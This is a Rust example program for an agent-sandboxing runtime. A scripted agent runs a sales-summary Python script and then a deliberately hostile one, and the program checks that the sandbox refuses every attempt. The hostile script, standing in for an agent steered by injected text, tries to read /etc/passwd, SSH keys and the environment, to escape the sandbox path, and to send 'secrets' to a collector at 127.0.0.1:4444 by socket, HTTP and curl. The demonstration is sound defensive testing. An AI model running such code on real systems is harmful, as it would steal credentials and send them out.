//! Data analyst: an agent receives sales data, its brain writes a Python script to
//! summarize it, and the script runs in the sandbox (CPython compiled to WASI, in
//! wasmtime) — never on the host. Then the brain, compromised by something it read,
//! writes a second script that tries to read the host's files, its environment and
//! SSH keys, and to phone home. Everything it tries is refused; the summary is still
//! right.
//!
//! Run it with `cargo run --example data_analyst` (after `scripts/fetch-interpreters`,
//! which the test command runs). It exits non-zero if the hostile script got anything
//! out, or if the summary is wrong.

use std::sync::Arc;
use std::time::{Duration, SystemTime};

use anyhow::{Context, ensure};
use bulwark::capabilities::{KeyPair, RootGrant, Tier, Token};
use bulwark::runtime::sandbox::{
    Limits, Sandbox, SandboxConfig, SandboxTool, ScriptLanguage, ToolCode,
};
use bulwark::runtime::{AgentSpec, BrainAction, Runtime, ScriptedBrain, ToolManifest};
use serde_json::{Value, json};

const SALES: &str = "\
month,region,units,revenue
2026-01,north,120,14400
2026-01,south,80,9600
2026-02,north,150,18000
2026-02,south,95,11400
2026-03,north,170,20400
2026-03,south,60,7200
";

const ANALYSIS: &str = r#"
import csv, json, statistics
rows = list(csv.DictReader(open("sales.csv")))
by_region, by_month = {}, {}
for r in rows:
    by_region[r["region"]] = by_region.get(r["region"], 0) + int(r["revenue"])
    by_month[r["month"]] = by_month.get(r["month"], 0) + int(r["revenue"])
months = sorted(by_month)
growth = (by_month[months[-1]] - by_month[months[0]]) / by_month[months[0]] * 100
print(json.dumps({
    "total_revenue": sum(by_region.values()),
    "by_region": by_region,
    "mean_monthly_revenue": statistics.mean(by_month.values()),
    "growth_pct_first_to_last_month": round(growth, 1),
    "best_region": max(by_region, key=by_region.get),
}))
"#;

const HOSTILE: &str = r#"
import os, json
tried = {}
def attempt(name, f):
    try:
        tried[name] = "LEAKED: " + str(f())[:80]
    except BaseException as e:
        tried[name] = "refused (" + type(e).__name__ + ")"
attempt("read /etc/passwd", lambda: open("/etc/passwd").read())
attempt("read ~/.ssh/id_ed25519", lambda: open(os.path.expanduser("~/.ssh/id_ed25519")).read())
attempt("escape with ..", lambda: open("/scratch/../../etc/hostname").read())
attempt("environment", lambda: dict(os.environ) or (_ for _ in ()).throw(PermissionError("empty")))
def phone_home():
    import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("127.0.0.1", 4444))
    s.send(b"stolen")
attempt("open a socket", phone_home)
def via_urllib():
    import urllib.request
    return urllib.request.urlopen("http://127.0.0.1:4444/exfil?d=secrets").read()
attempt("HTTP to a collector", via_urllib)
attempt("run a host program", lambda: os.system("curl http://127.0.0.1:4444"))
print(json.dumps(tried))
"#;

fn run_python(code: &str, files: Value) -> BrainAction {
    BrainAction::CallTool {
        tool: "run_python".into(),
        args: json!({"code": code, "files": files}),
    }
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let data = tempfile::tempdir().context("creating a data directory")?;
    let root = KeyPair::generate();
    let rt = Runtime::builder()
        .data_dir(data.path())
        .root_public_key(root.public())
        .build()
        .await?;

    println!("Bulwark data analyst: model-written Python runs in the sandbox\n");
    let sandbox = Sandbox::new(SandboxConfig::default())?;
    let started = std::time::Instant::now();
    sandbox
        .prepare(&bulwark::runtime::sandbox::Program::Python(String::new()))
        .context("the sandbox needs the WASI interpreters")?;
    println!(
        "CPython (WASI) ready in {:.2} s (compiled once, then cached on disk)",
        started.elapsed().as_secs_f64()
    );
    let tool = SandboxTool::new(
        sandbox,
        ToolCode::Script {
            language: ScriptLanguage::Python,
            code_arg: "code".into(),
            files_arg: Some("files".into()),
        },
    )
    .limits(Limits {
        memory_bytes: 96 << 20,
        timeout: Duration::from_secs(5),
        ..Limits::default()
    })
    .into_tool(
        ToolManifest::new(
            "run_python",
            "Runs a Python script in a sandbox; `files` are placed in its working directory",
        )
        .tier(Tier::Auto),
    );
    rt.tools().register(tool)?;

    let key = KeyPair::generate();
    let grant = RootGrant::new(
        "acme",
        "analyst",
        key.public(),
        "2".parse()?,
        SystemTime::now() + Duration::from_secs(3600),
        1,
    )
    .tool("run_python", Tier::Auto);
    let token = Token::mint(&root, grant)?;
    let brain = Arc::new(ScriptedBrain::new(vec![
        run_python(ANALYSIS, json!({"sales.csv": SALES})),
        // What a brain steered by injected text might write next.
        run_python(HOSTILE, json!({})),
        BrainAction::Finish {
            answer: "Q1 summary computed.".into(),
        },
    ]));
    let agent = rt
        .spawn_agent(AgentSpec::with_key("analyst", key), token, brain)
        .await?;
    let outcome = agent.run("Summarize Q1 sales by region").await?;

    let results: Vec<Value> = rt
        .audit_tail(200)
        .await?
        .into_iter()
        .filter(|e| e.record.kind == "tool.result")
        .map(|e| e.record.detail)
        .collect();
    ensure!(
        results.len() == 2,
        "expected two script runs, saw {}",
        results.len()
    );
    let summary = &results[0]["result"]["stdout"];
    println!("\n1. The analysis script ran in the sandbox:");
    println!("{}", serde_json::to_string_pretty(summary)?);
    ensure!(summary["total_revenue"] == 81_000, "wrong total: {summary}");
    ensure!(
        summary["best_region"] == "north",
        "wrong best region: {summary}"
    );

    println!("\n2. The hostile script was contained:");
    let hostile = &results[1]["result"]["stdout"];
    let tried = hostile.as_object().context("the hostile script's report")?;
    for (what, result) in tried {
        println!("   {what:<26} {}", result.as_str().unwrap_or_default());
    }
    ensure!(
        tried.len() == 7,
        "the hostile script did not finish: {hostile}"
    );
    ensure!(
        tried
            .values()
            .all(|v| v.as_str().is_some_and(|s| s.starts_with("refused"))),
        "something leaked: {hostile}"
    );
    println!(
        "\nRun finished: {:?} after {} steps, {} charged.",
        outcome.status,
        outcome.steps,
        bulwark::runtime::dollars(outcome.charged)
    );
    Ok(())
}
